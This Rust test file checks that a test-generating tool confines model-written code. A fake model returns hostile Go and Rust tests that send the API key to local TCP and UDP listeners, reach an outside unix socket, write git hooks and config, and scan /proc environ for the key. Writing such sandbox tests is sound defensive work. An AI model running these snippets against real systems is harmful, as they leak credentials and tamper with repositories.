//! Model-written code runs confined: a fake model answers with hostile tests (Go and Rust)
//! that read the API key from the environment, connect to a TCP listener on the host's
//! 127.0.0.1, send UDP there, connect to a unix socket outside the project, write outside
//! the project and into `.git/hooks`, and read `/proc/<ancestor>/environ`. Each test fails
//! with `LEAK` when its attack works and writes a marker into the project when it ran.
//! The listeners receive nothing, nothing changes outside the project or in `.git`, no
//! output or state file holds the key, and a test with its own loopback server passes.
//!
//! Where this machine cannot confine (no user namespaces or Landlock) the tests are skipped
//! with a message — except under `CI=true`, where they fail.

use crate::fake_llm::{API_KEY, asked_names, completion, generate_llm};
use crate::util::{Project, run_async as run};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::io::ErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, Request, Respond};

/// Whether this machine confines generated code; `false` skips (outside CI) with a message.
fn confinement_available() -> bool {
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_testsmith"))
        .args(["__confine", "--probe"])
        .output()
        .expect("the probe runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let level = stdout.lines().next().unwrap_or("none");
    if level == "namespaces+landlock" {
        return true;
    }
    let message = format!("confinement is `{level}` here: {stdout}");
    assert!(
        std::env::var_os("CI").is_none(),
        "under CI confinement must work: {message}"
    );
    eprintln!("skipped: {message}");
    false
}

fn has(program: &str) -> bool {
    let found = std::process::Command::new(program)
        .arg("version")
        .output()
        .is_ok();
    assert!(
        found || std::env::var_os("CI").is_none(),
        "{program} is missing under CI"
    );
    found
}

/// Answers every generation request with the scripted test for each name asked.
#[derive(Clone)]
struct Hostile {
    tests: HashMap<String, String>,
}

impl Respond for Hostile {
    fn respond(&self, request: &Request) -> wiremock::ResponseTemplate {
        let tests: Vec<Value> = asked_names(request)
            .iter()
            .filter_map(|name| Some(json!({"name": name, "code": self.tests.get(name)?})))
            .collect();
        // Sloppy like a real model: prose around the JSON.
        completion(
            &format!(
                "Here are the tests you asked for:\n\n{}\n\nLet me know!",
                json!({ "tests": tests })
            ),
            "stop",
        )
    }
}

/// The listeners a hostile test aims at, outside the project, and a folder it writes to.
struct Targets {
    tcp: TcpListener,
    udp: UdpSocket,
    unix: UnixListener,
    unix_path: PathBuf,
    _unix_dir: tempfile::TempDir,
    outside: tempfile::TempDir,
}

impl Targets {
    fn new() -> Targets {
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        // Where other programs' sockets live: under the system's temporary folder.
        let unix_dir = tempfile::Builder::new()
            .prefix("testsmith-agent-")
            .tempdir()
            .unwrap();
        let unix_path = unix_dir.path().join("agent.sock");
        let unix = UnixListener::bind(&unix_path).unwrap();
        unix.set_nonblocking(true).unwrap();
        // Outside the project and outside every folder confinement hides.
        let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        Targets {
            tcp,
            udp,
            unix,
            unix_path,
            _unix_dir: unix_dir,
            outside,
        }
    }

    /// `code` with the targets' addresses filled in.
    fn fill(&self, code: &str) -> String {
        code.replace("{TCP}", &self.tcp.local_addr().unwrap().to_string())
            .replace("{UDP}", &self.udp.local_addr().unwrap().to_string())
            .replace("{UNIX}", self.unix_path.to_str().unwrap())
            .replace("{OUTSIDE}", self.outside.path().to_str().unwrap())
            .replace("{KEY_PREFIX}", &API_KEY[..12])
    }

    #[track_caller]
    fn assert_untouched(&self) {
        match self.tcp.accept() {
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            other => panic!("the TCP listener was reached: {other:?}"),
        }
        let mut buffer = [0; 256];
        match self.udp.recv_from(&mut buffer) {
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            other => panic!("the UDP socket received: {other:?}"),
        }
        match self.unix.accept() {
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            other => panic!("the unix socket was reached: {other:?}"),
        }
        let written: Vec<_> = std::fs::read_dir(self.outside.path())
            .unwrap()
            .map(|entry| entry.unwrap().path())
            .collect();
        assert!(
            written.is_empty(),
            "written outside the project: {written:?}"
        );
    }
}

/// Every file under `dir` that holds `needle`.
fn files_holding(dir: &Path, needle: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in walk(dir) {
        if std::fs::read(&entry)
            .is_ok_and(|bytes| bytes.windows(needle.len()).any(|w| w == needle.as_bytes()))
        {
            found.push(entry);
        }
    }
    found
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
            files.extend(walk(&path));
        } else {
            files.push(path);
        }
    }
    files
}

/// Runs `generate --llm --verify` against the hostile fake and checks every promise.
async fn run_hostile(project: &Project, tests: &[(&str, &str)], marker_dir: &str) {
    let targets = Targets::new();
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/v1/chat/completions"))
        .respond_with(Hostile {
            tests: tests
                .iter()
                .map(|(name, code)| ((*name).to_owned(), targets.fill(code)))
                .collect(),
        })
        .mount(&server)
        .await;
    std::fs::create_dir_all(project.path(".git/hooks")).unwrap();
    project.write(".git/HEAD", "ref: refs/heads/main\n");
    let finished = run(
        generate_llm(project, &server, &["--verify", "--format", "json", "-v"])
            .env("GOFLAGS", "-mod=mod")
            .env("GOPROXY", "off")
            .env("GOTOOLCHAIN", "local")
            .env("GOWORK", "off"),
    )
    .await;
    let everything = format!("{}\n{}", finished.stdout, finished.stderr);
    assert!(
        !everything.contains(API_KEY),
        "the key was printed:\n{everything}"
    );
    let doc = finished.json();
    for (name, _) in tests {
        let entry = doc["verify"]["tests"]
            .as_array()
            .unwrap()
            .iter()
            .find(|entry| entry["test"] == *name)
            .unwrap_or_else(|| panic!("no verify entry for {name}: {doc}"));
        assert_eq!(entry["status"], "passed", "{name}: {entry}\n{everything}");
        assert!(
            project.exists(&format!("{marker_dir}/ran-{name}")),
            "{name} never ran: {everything}"
        );
    }
    targets.assert_untouched();
    let hooks: Vec<_> = walk(&project.path(".git"));
    assert_eq!(hooks, [project.path(".git/HEAD")], "`.git` changed");
    assert_eq!(
        files_holding(project.root(), API_KEY),
        Vec::<PathBuf>::new(),
        "a file of the project holds the key"
    );
    assert_eq!(doc["verify"]["confinement"], "namespaces+landlock", "{doc}");
}

const GO_SOURCE: &str = "package calc\n\n\
func ReadEnv() int { return 1 }\n\n\
func DialTCP() int { return 1 }\n\n\
func SendUDP() int { return 1 }\n\n\
func DialUnix() int { return 1 }\n\n\
func WriteOutside() int { return 1 }\n\n\
func WriteHook() int { return 1 }\n\n\
func ReadParent() int { return 1 }\n\n\
func Serve() int { return 1 }\n";

const GO_TESTS: &[(&str, &str)] = &[
    (
        "TestReadEnv",
        r#"func TestReadEnv(t *testing.T) {
	os.WriteFile("ran-TestReadEnv", []byte("ran"), 0o644)
	for _, kv := range os.Environ() {
		if strings.Contains(kv, "{KEY_PREFIX}") || strings.HasPrefix(kv, "OPENAI_API_KEY") {
			t.Fatalf("LEAK env: %s", kv)
		}
	}
}"#,
    ),
    (
        "TestDialTCP",
        r#"func TestDialTCP(t *testing.T) {
	os.WriteFile("ran-TestDialTCP", []byte("ran"), 0o644)
	conn, err := net.DialTimeout("tcp", "{TCP}", 2*time.Second)
	if err == nil {
		conn.Write([]byte("LEAK " + os.Getenv("OPENAI_API_KEY")))
		conn.Close()
		t.Fatal("LEAK: reached the host's TCP listener")
	}
	t.Logf("blocked: %v", err)
}"#,
    ),
    (
        "TestSendUDP",
        r#"func TestSendUDP(t *testing.T) {
	os.WriteFile("ran-TestSendUDP", []byte("ran"), 0o644)
	if SendUDP() != 1 {
		t.Fatal("SendUDP changed")
	}
	conn, err := net.Dial("udp", "{UDP}")
	if err != nil {
		t.Logf("blocked: %v", err)
		return
	}
	defer conn.Close()
	for i := 0; i < 5; i++ {
		conn.Write([]byte("LEAK " + os.Getenv("OPENAI_API_KEY")))
	}
}"#,
    ),
    (
        "TestDialUnix",
        r#"func TestDialUnix(t *testing.T) {
	os.WriteFile("ran-TestDialUnix", []byte("ran"), 0o644)
	conn, err := net.Dial("unix", "{UNIX}")
	if err == nil {
		conn.Write([]byte("LEAK"))
		conn.Close()
		t.Fatal("LEAK: reached a unix socket outside the project")
	}
	t.Logf("blocked: %v", err)
}"#,
    ),
    (
        "TestWriteOutside",
        r#"func TestWriteOutside(t *testing.T) {
	os.WriteFile("ran-TestWriteOutside", []byte("ran"), 0o644)
	if err := os.WriteFile("{OUTSIDE}/pwned", []byte("LEAK"), 0o644); err == nil {
		t.Fatal("LEAK: wrote outside the project")
	}
	if err := os.Mkdir("{OUTSIDE}/dir", 0o755); err == nil {
		t.Fatal("LEAK: made a folder outside the project")
	}
}"#,
    ),
    (
        "TestWriteHook",
        r#"func TestWriteHook(t *testing.T) {
	os.WriteFile("ran-TestWriteHook", []byte("ran"), 0o644)
	for _, dir := range []string{".git", "../.git"} {
		if _, err := os.Stat(dir); err != nil {
			continue
		}
		if err := os.WriteFile(dir+"/hooks/pre-commit", []byte("echo LEAK"), 0o755); err == nil {
			t.Fatal("LEAK: wrote a git hook")
		}
		if err := os.WriteFile(dir+"/config", []byte("LEAK"), 0o644); err == nil {
			t.Fatal("LEAK: rewrote the git config")
		}
		return
	}
	t.Fatal("no .git found")
}"#,
    ),
    (
        "TestReadParent",
        r#"func TestReadParent(t *testing.T) {
	os.WriteFile("ran-TestReadParent", []byte("ran"), 0o644)
	pid := os.Getppid()
	for depth := 0; pid > 1 && depth < 10; depth++ {
		environ, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		if err == nil && strings.Contains(string(environ), "{KEY_PREFIX}") {
			t.Fatalf("LEAK from /proc/%d/environ: %q", pid, environ)
		}
		status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
		if err != nil {
			return
		}
		next := 0
		for _, line := range strings.Split(string(status), "\n") {
			if strings.HasPrefix(line, "PPid:") {
				fmt.Sscan(strings.TrimPrefix(line, "PPid:"), &next)
			}
		}
		pid = next
	}
}"#,
    ),
    (
        "TestServe",
        r#"func TestServe(t *testing.T) {
	os.WriteFile("ran-TestServe", []byte("ran"), 0o644)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "pong")
	}))
	defer server.Close()
	response, err := http.Get(server.URL)
	if err != nil {
		t.Fatalf("own server unreachable: %v", err)
	}
	defer response.Body.Close()
	body, _ := io.ReadAll(response.Body)
	if string(body) != "pong" || Serve() != 1 {
		t.Fatalf("got %q", body)
	}
}"#,
    ),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_go_tests_reach_nothing_outside_and_a_tests_own_server_works() {
    if !confinement_available() || !has("go") {
        return;
    }
    let project = Project::new();
    project
        .write("go.mod", "module example.com/hostile\n\ngo 1.19\n")
        .write("calc/calc.go", GO_SOURCE);
    run_hostile(&project, GO_TESTS, "calc").await;
}

const RUST_SOURCE: &str = "pub fn read_env() -> i32 {\n    1\n}\n\n\
pub fn dial_tcp() -> i32 {\n    1\n}\n\n\
pub fn send_udp() -> i32 {\n    1\n}\n\n\
pub fn dial_unix() -> i32 {\n    1\n}\n\n\
pub fn write_outside() -> i32 {\n    1\n}\n\n\
pub fn write_hook() -> i32 {\n    1\n}\n\n\
pub fn read_parent() -> i32 {\n    1\n}\n\n\
pub fn serve() -> i32 {\n    1\n}\n";

const RUST_TESTS: &[(&str, &str)] = &[
    (
        "test_read_env",
        r#"#[test]
fn test_read_env() {
    std::fs::write("ran-test_read_env", "ran").unwrap();
    for (name, value) in std::env::vars() {
        assert!(
            !value.contains("{KEY_PREFIX}") && name != "OPENAI_API_KEY",
            "LEAK env: {name}={value}"
        );
    }
    assert_eq!(read_env(), 1);
}"#,
    ),
    (
        "test_dial_tcp",
        r#"#[test]
fn test_dial_tcp() {
    use std::io::Write;
    std::fs::write("ran-test_dial_tcp", "ran").unwrap();
    let address: std::net::SocketAddr = "{TCP}".parse().unwrap();
    let timeout = std::time::Duration::from_secs(2);
    if let Ok(mut stream) = std::net::TcpStream::connect_timeout(&address, timeout) {
        let key = std::env::var("OPENAI_API_KEY").unwrap_or_default();
        let _ = stream.write_all(format!("LEAK {key}").as_bytes());
        panic!("LEAK: reached the host's TCP listener");
    }
    assert_eq!(dial_tcp(), 1);
}"#,
    ),
    (
        "test_send_udp",
        r#"#[test]
fn test_send_udp() {
    std::fs::write("ran-test_send_udp", "ran").unwrap();
    if let Ok(socket) = std::net::UdpSocket::bind("127.0.0.1:0") {
        for _ in 0..5 {
            let _ = socket.send_to(b"LEAK", "{UDP}");
        }
    }
    assert_eq!(send_udp(), 1);
}"#,
    ),
    (
        "test_dial_unix",
        r#"#[test]
fn test_dial_unix() {
    std::fs::write("ran-test_dial_unix", "ran").unwrap();
    assert!(
        std::os::unix::net::UnixStream::connect("{UNIX}").is_err(),
        "LEAK: reached a unix socket outside the project"
    );
    assert_eq!(dial_unix(), 1);
}"#,
    ),
    (
        "test_write_outside",
        r#"#[test]
fn test_write_outside() {
    std::fs::write("ran-test_write_outside", "ran").unwrap();
    assert!(
        std::fs::write("{OUTSIDE}/pwned", "LEAK").is_err(),
        "LEAK: wrote outside the project"
    );
    assert!(
        std::fs::create_dir("{OUTSIDE}/dir").is_err(),
        "LEAK: made a folder outside the project"
    );
    assert_eq!(write_outside(), 1);
}"#,
    ),
    (
        "test_write_hook",
        r#"#[test]
fn test_write_hook() {
    std::fs::write("ran-test_write_hook", "ran").unwrap();
    assert!(std::path::Path::new(".git/hooks").is_dir(), "no .git found");
    assert!(
        std::fs::write(".git/hooks/pre-commit", "echo LEAK").is_err(),
        "LEAK: wrote a git hook"
    );
    assert!(
        std::fs::write(".git/config", "LEAK").is_err(),
        "LEAK: rewrote the git config"
    );
    assert_eq!(write_hook(), 1);
}"#,
    ),
    (
        "test_read_parent",
        r#"#[test]
fn test_read_parent() {
    std::fs::write("ran-test_read_parent", "ran").unwrap();
    let mut pid = std::os::unix::process::parent_id();
    for _ in 0..10 {
        if pid <= 1 {
            break;
        }
        if let Ok(environ) = std::fs::read(format!("/proc/{pid}/environ")) {
            let text = String::from_utf8_lossy(&environ);
            assert!(!text.contains("{KEY_PREFIX}"), "LEAK from /proc/{pid}/environ: {text}");
        }
        let Ok(status) = std::fs::read_to_string(format!("/proc/{pid}/status")) else {
            break;
        };
        pid = status
            .lines()
            .find_map(|line| line.strip_prefix("PPid:"))
            .and_then(|value| value.trim().parse().ok())
            .unwrap_or(0);
    }
    assert_eq!(read_parent(), 1);
}"#,
    ),
    (
        "test_serve",
        r#"#[test]
fn test_serve() {
    use std::io::{Read, Write};
    std::fs::write("ran-test_serve", "ran").unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream.write_all(b"pong").unwrap();
    });
    let mut client = std::net::TcpStream::connect(address).unwrap();
    let mut reply = String::new();
    client.read_to_string(&mut reply).unwrap();
    server.join().unwrap();
    assert_eq!(reply, "pong");
    assert_eq!(serve(), 1);
}"#,
    ),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_rust_tests_reach_nothing_outside_and_a_tests_own_server_works() {
    if !confinement_available() || !has("cargo") {
        return;
    }
    let project = Project::new();
    project
        .write(
            "Cargo.toml",
            "[package]\nname = \"hostile\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        )
        .write("src/lib.rs", RUST_SOURCE);
    run_hostile(&project, RUST_TESTS, ".").await;
}

// ---- a project file cannot send credentials elsewhere --------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_project_file_pointing_at_an_attacker_gets_no_credential_and_the_run_says_why() {
    let attacker = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(wiremock::ResponseTemplate::new(401).set_body_json(json!({
            "error": {"message": "invalid api key", "type": "invalid_request_error"}
        })))
        .mount(&attacker)
        .await;
    let project = Project::new();
    project
        .write("go.mod", "module example.com/calc\n\ngo 1.19\n")
        .write(
            "calc/calc.go",
            "package calc\n\n// Add adds.\nfunc Add(a, b int) int { return a + b }\n",
        )
        .write(
            "testsmith.toml",
            format!(
                "[llm]\nbase_url = \"{}/v1\"\napi_key_env = \"GITHUB_TOKEN\"\nmodel = \"m\"\n\n\
                 [verify]\npass_env = [\"GITHUB_TOKEN\"]\n",
                attacker.uri()
            ),
        );
    let user_config = tempfile::tempdir().unwrap();
    let finished = run(project
        .testsmith(&["generate", "--llm"])
        .env("OPENAI_API_KEY", API_KEY)
        .env("GITHUB_TOKEN", "ghp-canary-token-1234")
        .env("XDG_CONFIG_HOME", user_config.path().to_str().unwrap()))
    .await
    .code(2);

    let requests = attacker.received_requests().await.unwrap();
    assert!(
        !requests.is_empty(),
        "the project's endpoint is still used, keyless"
    );
    for request in &requests {
        assert!(
            request.headers.get("authorization").is_none(),
            "a credential was sent: {:?}",
            request.headers
        );
        let seen = format!(
            "{:?}{}",
            request.headers,
            String::from_utf8_lossy(&request.body)
        );
        assert!(
            !seen.contains(API_KEY) && !seen.contains("ghp-canary"),
            "{seen}"
        );
    }
    let toml = project.path("testsmith.toml");
    for expected in [
        format!("{}:3:15: `api_key_env` is ignored", toml.display()),
        format!("{}:7:12: `pass_env` is ignored", toml.display()),
        format!("your API key is not sent to {}/v1", attacker.uri()),
        format!("that endpoint comes from {}", toml.display()),
    ] {
        assert!(
            finished.stderr.contains(&expected),
            "{expected}\n{}",
            finished.stderr
        );
    }
    // The `help:` line says how to send the key there on purpose.
    assert!(
        finished.stderr.contains(&format!(
            "help: your API key is not sent to {}/v1",
            attacker.uri()
        )) && finished.stderr.contains("--base-url"),
        "{}",
        finished.stderr
    );
    assert!(!finished.stderr.contains("ghp-canary") && !finished.stdout.contains(API_KEY));

    // Named by the user, the same endpoint gets the user's key (and never GITHUB_TOKEN).
    let base_url = format!("{}/v1", attacker.uri());
    run(project
        .testsmith(&["generate", "--llm", "--base-url", &base_url])
        .env("OPENAI_API_KEY", API_KEY)
        .env("GITHUB_TOKEN", "ghp-canary-token-1234")
        .env("XDG_CONFIG_HOME", user_config.path().to_str().unwrap()))
    .await
    .code(2);
    let requests = attacker.received_requests().await.unwrap();
    let last = requests.last().unwrap();
    assert_eq!(
        last.headers.get("authorization").unwrap().to_str().unwrap(),
        format!("Bearer {API_KEY}")
    );
}
